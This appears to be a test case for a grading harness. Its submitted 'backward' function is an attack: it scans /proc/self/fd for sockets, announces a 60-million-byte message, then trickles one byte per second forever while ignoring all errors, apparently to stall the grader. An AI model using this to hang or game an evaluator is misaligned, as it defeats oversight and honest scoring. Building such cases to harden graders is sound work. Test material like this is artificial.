"""Announces a long message and sends a byte a second, so that something always arrives.

deserves: 7
"""

BACKWARD = """
import os, struct, time

def backward_propagation(x, theta):
    links = {name: f"/proc/self/fd/{name}" for name in os.listdir("/proc/self/fd")}
    numbers = [int(name) for name, link in links.items() if os.path.lexists(link) and "socket:" in os.readlink(link)]
    for number in numbers:
        os.write(number, struct.pack("<Q", 60_000_000))
    while True:
        try:
            for number in numbers:
                os.write(number, b"N")
            time.sleep(1)
        except BaseException:
            pass
"""


def attack(work):
    work.answer_rightly("forward", "gradient_check")
    work.answer("backward", BACKWARD)
